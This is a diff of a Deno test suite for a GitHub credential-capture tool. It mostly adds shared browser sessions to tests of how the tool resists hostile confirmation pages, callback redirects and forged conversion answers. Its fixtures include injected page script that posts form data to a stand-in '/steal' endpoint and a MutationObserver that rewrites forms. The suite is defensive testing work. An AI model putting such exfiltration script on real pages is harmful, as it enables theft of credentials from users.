@@ -35,6 +35,7 @@ import {
   policyFor,
   randomHex,
   seenText,
+  type SharedSession,
   world,
 } from "./helpers/capture_attack.ts";
 
@@ -115,6 +116,12 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
 
   // --- the GitHub confirmation page -------------------------------------------------
 
+  /**
+   * The session of the pages whose script changes only its own page's form or submission (a
+   * listener, an observer: no tab, no timer, nothing kept): see {@link SharedSession}.
+   */
+  const ownPage: SharedSession = {};
+
   // No page script runs from the confirmation's submission on (the runtime turns scripts
   // off before it submits): a listener that would change the submission never fires, so the
   // form's own submission leaves as read, or the capture fails closed; either way nothing
@@ -150,7 +157,11 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
       `confirmation page ${what}: the script never runs, nothing leaves elsewhere`,
       async () => {
         const m = github.minted.length;
-        const a = await attempt("github_app", { github: { confirmHead: head } });
+        // A submission into a popup leaves a tab behind: a fresh session of its own.
+        const opensTab = head.includes(`"_blank"`);
+        const a = await attempt("github_app", { github: { confirmHead: head } }, {
+          shared: opensTab ? undefined : ownPage,
+        });
         assert.deepEqual(
           a.toBystander.map((r) => `${r.method} ${r.url.slice(0, 100)}`),
           [],
@@ -191,7 +202,7 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
               JSON.stringify(`${bystander.origin}/steal`)
             }; });</script>`,
         },
-      });
+      }, { shared: ownPage });
       assert.equal(a.out.isError, true, a.out.text);
       assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
       assert.equal(github.minted.length, m);
@@ -253,11 +264,16 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
     },
   );
 
+  /** The callback refusals' session: the vendor's redirects, no page script. */
+  const callbackRefusals: SharedSession = {};
+
   await t.step(
     "the vendor redirects the callback to an allowed origin: CAPTURE_CALLBACK_REFUSED, the code never arrives there",
     async () => {
       const conversions = github.conversions;
-      const a = await attempt("github_app", { github: { callbackOrigin: bystander.origin } });
+      const a = await attempt("github_app", { github: { callbackOrigin: bystander.origin } }, {
+        shared: callbackRefusals,
+      });
       assert.equal(a.out.isError, true, a.out.text);
       assert.match(a.out.text, /CAPTURE_CALLBACK_REFUSED/);
       assert.equal(github.conversions, conversions);
@@ -267,7 +283,9 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
   await t.step(
     "the vendor redirects the callback to 127.0.0.2 (not allowed): refused, nothing arrives",
     async () => {
-      const a = await attempt("github_app", { github: { callbackOrigin: attacker.origin } });
+      const a = await attempt("github_app", { github: { callbackOrigin: attacker.origin } }, {
+        shared: callbackRefusals,
+      });
       assert.equal(a.out.isError, true, a.out.text);
       assert.match(a.out.text, /CAPTURE_CALLBACK_REFUSED/);
     },
@@ -278,11 +296,15 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
   await t.step(
     "root page redirects to another origin before the manifest is posted: nothing posted anywhere",
     async () => {
+      // One session: each is the vendor's redirect, with no page script.
+      const redirects: SharedSession = {};
       for (const target of [`${bystander.origin}/elsewhere`, `${attacker.origin}/elsewhere`]) {
         const before = posts();
         const manifests = github.requests.filter((r) => r.url.startsWith("/settings/apps/new"))
           .length;
-        const a = await attempt("github_app", { github: { rootRedirect: target } });
+        const a = await attempt("github_app", { github: { rootRedirect: target } }, {
+          shared: redirects,
+        });
         assert.equal(a.out.isError, true, a.out.text);
         assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
         assert.equal(posts(), before);
@@ -315,7 +337,7 @@ new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) i
           }; }).observe(document.documentElement, { childList: true, subtree: true });
 </script>`,
         },
-      });
+      }, { shared: ownPage });
       assert.equal(a.out.isError, true, a.out.text);
       assert.match(a.out.text, /CAPTURE_WRITE_REFUSED/);
       assert.equal(github.minted.length, m);
@@ -413,6 +435,8 @@ new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) i
 
   // --- the conversion's answer ---------------------------------------------------------
 
+  /** The conversion answers' session: each is the vendor's answer, the pages its plain ones. */
+  const conversions: SharedSession = {};
   /** A conversion answer test: `answer` replaces the vendor's; `hidden` its shown values. */
   const conversionCase = async (
     answer: (app: Parameters<NonNullable<HostileGithubOptions["conversion"]>>[0]) => Response,
@@ -420,6 +444,7 @@ new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) i
     hidden: string[] = [],
   ) => {
     const a = await attempt("github_app", { github: { conversion: answer } }, {
+      shared: conversions,
       extraSecrets: () => hidden,
     });
     assert.match(a.out.text, expect, a.out.text);
